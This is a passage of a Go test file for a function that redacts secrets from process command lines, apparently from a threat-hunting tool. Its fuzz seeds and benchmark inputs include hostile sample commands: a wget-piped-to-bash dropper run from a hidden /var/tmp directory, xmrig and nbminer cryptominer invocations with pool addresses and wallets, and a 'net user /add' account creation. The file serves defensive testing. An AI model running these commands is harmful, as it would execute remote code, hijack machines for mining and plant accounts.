		{"quotes", rep("", `"'\" `, "")},
		{"unterminated quote", rep(`mysql -p"`, `\" -p`, "")},
		{"wrapper options", rep("sudo ", "-u ", "")},
		{"wrapper quoted values", rep("sudo ", `-u "a `, "")},
		{"nbminer wallets", rep("nbminer ", "-u kaspa:", "")},
		{"net user", rep("", "net user ", "")},
		{"bearer", rep("", "Authorization: Bearer ", "")},
	}
}

// TestSecretsIsLinear: no command line makes Secrets slow (it is called on
// text a process wrote, without a cap): 1 MiB built to make the scan
// repeat itself takes well under a second (the bound is loose, so as not
// to fail on a slow machine; quadratic time took minutes).
func TestSecretsIsLinear(t *testing.T) {
	for _, c := range adversarial() {
		start := time.Now()
		out := Secrets(c.in)
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("%s: %v for %d bytes", c.name, d, len(c.in))
		}
		if Secrets(out) != out {
			t.Errorf("%s: not idempotent", c.name)
		}
	}
}

// TestSecretsReturnsTheTextItself: nothing to hide, nothing allocated.
func TestSecretsReturnsTheTextItself(t *testing.T) {
	in := "/usr/bin/xmrig -o pool.supportxmr.com:443 --tls -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"
	if n := testing.AllocsPerRun(100, func() { _ = Secrets(in) }); n != 0 {
		t.Errorf("%v allocations for a line without secrets", n)
	}
}

func TestTableNamesAreNormalised(t *testing.T) {
	for _, n := range names {
		if n.name == "" || strings.ToLower(n.name) != n.name || strings.ContainsAny(n.name, "-_.") {
			t.Errorf("name %q: want lower case without - _ .", n.name)
		}
	}
	for _, f := range scopedFlags {
		for _, p := range append(f.programs, f.with) {
			if strings.ToLower(p) != p || strings.HasSuffix(p, ".exe") {
				t.Errorf("%s: program or with word %q: want lower case without .exe", f.flag, p)
			}
		}
		// A cluster is of one-letter flags; a program alone says nothing
		// of a value, only of what was piped into it.
		if f.cluster && (len(f.flag) != 2 || f.flag[0] != '-') {
			t.Errorf("%s: a cluster flag is a dash and a letter", f.flag)
		}
		if f.flag == "" && (f.take != piped || len(f.programs) == 0) {
			t.Errorf("%v: a flag that is its program's name takes what was piped", f.programs)
		}
	}
}

// FuzzSecrets: Secrets never panics, hides once (a second pass changes
// nothing), at most doubles the text (a mask of three bytes stands for a
// value of at least one, after a name or a separator) and keeps valid
// UTF-8 valid.
func FuzzSecrets(f *testing.F) {
	for _, s := range []string{
		"az login --service-principal -u app -p Zx8Q --tenant t",
		"mysql -u root -p'S3 cret' -e x; mkdir -p /tmp/x",
		`curl -H "Authorization: Bearer eyJ0" -u a:b https://u:p@h/x?sig=abc&code=1`,
		`{"password": "x", \"token\":\"y\"}`,
		"export AZURE_CLIENT_SECRET=x AccountKey=y==;SharedAccessKey=z",
		`pwsh -c ConvertTo-SecureString -String 'x' -AsPlainText`,
		"./xmrig -o stratum+tcp://W:x@pool:3333 -u W -p x",
		"--password \"abc",
		"Authorization: Bearer \"x\"",
		"/p:x /password:y smbclient -U a%b",
		"echo -e 'a:b\\n' | sudo -kS passwd --stdin x | chpasswd; echo q || sudo -S",
		"net user a b /add; aws configure set aws_secret_access_key k; vault login t",
		"htpasswd -bc f u 'p w' 2>/dev/null; openssl passwd -1 $(x)",
		"docker login -u u -pP; git clone https://ghp_x@github.com/a; MYSQL_PWD=p",
		"k -o stratum+tcp://w@p:1 -p x; curl 'u?a%3D1%26sig%3Dz%26c%3D2'",
		"nbminer -u kaspa:qrab.w:x -o stratum+tcp://kaspa:qr@p:1 -p stratum+tcp://a.b:c@p2",
		"sshpass -p x ssh -p 22 h mysql -py; sudo -u 'a b' -- env A=1 timeout 9 mysql -pz",
		"docker run -v /srv/mysql:/x -p 1:1 i; pwsh -ep b -c \"$p = ConvertTo-SecureString -String 'x'\"",
		"htpasswd -b -b -x; net user a\\\" b; --password=x://password=y://",
		"eCho -A\"|sudo -S",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		once := Secrets(s)
		if twice := Secrets(once); twice != once {
			t.Fatalf("not idempotent:\n in    %q\n once  %q\n twice %q", s, once, twice)
		}
		// A mask stands for a value of at least one byte, after a name or
		// a separator of at least two.
		if len(once) > 2*len(s) {
			t.Fatalf("grew from %d to %d bytes: %q -> %q", len(s), len(once), s, once)
		}
		if utf8.ValidString(s) && !utf8.ValidString(once) {
			t.Fatalf("broke UTF-8: %q -> %q", s, once)
		}
	})
}

// BenchmarkSecrets: command lines as a hunt meets them, most with nothing
// to hide, and one at summary.go's redactedCommand limit (4 KiB).
func BenchmarkSecrets(b *testing.B) {
	long := strings.Repeat("/opt/app/lib/module-0123456789.jar:", 4<<10/35)
	for _, c := range []struct{ name, in string }{
		{"clean", "/bin/bash -c cd /var/tmp/.X11-unix && mkdir -p .cache && wget -q -O- http://198.51.100.7:8080/x.sh | bash"},
		{"miner", "./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x -k --donate-level 1"},
		{"secrets", `az login --service-principal -u app -p Zx8Q --tenant t && curl -H "Authorization: Bearer eyJ0" "https://acct.blob.core.windows.net/c/x?sv=2022&sig=AbC%2B" -o /tmp/x`},
		{"long", "java -cp " + long + " com.example.Main --verbose"},
	} {
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(c.in)))
			for b.Loop() {
				_ = Secrets(c.in)
			}
		})
	}
}

// BenchmarkSecretsAdversarial: the command lines of TestSecretsIsLinear,
// 1 MiB each.
func BenchmarkSecretsAdversarial(b *testing.B) {
	for _, c := range adversarial() {
		b.Run(strings.ReplaceAll(c.name, " ", "_"), func(b *testing.B) {
			b.SetBytes(int64(len(c.in)))
			for b.Loop() {
				_ = Secrets(c.in)
			}
		})
	}
}
